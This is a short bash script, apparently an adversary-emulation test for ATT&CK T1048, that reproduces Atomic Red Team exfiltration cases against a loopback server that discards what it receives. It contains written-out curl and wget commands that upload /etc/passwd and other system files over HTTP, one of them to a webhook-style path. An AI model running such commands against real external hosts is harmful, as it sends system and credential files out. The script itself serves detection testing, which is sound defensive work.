#!/bin/bash
# technique: T1048
# tactic: exfiltration
# what: files uploaded with command-line HTTP clients: curl -F file=@..., curl -T, wget --post-file
#       (to a loopback server that discards them)
# source: ART T1048.002 #2 "Exfiltrate data HTTPS using curl", #3 "... using wget", T1567.004 #2/#3 (webhooks)
# cleanup: the server stops at exit
# fast: yes
. "$(dirname "$0")/lib.sh"
srv=$(vg_tmp /var/tmp)
port=$(vg_serve http "$srv")
curl -s -F "file=@/etc/passwd" "http://127.0.0.1:$port/api/webhooks/upload" >/dev/null
curl -s -T /etc/hostname "http://127.0.0.1:$port/put" >/dev/null
command -v wget >/dev/null && wget -q -O /dev/null --post-file=/etc/os-release "http://127.0.0.1:$port/post"
true
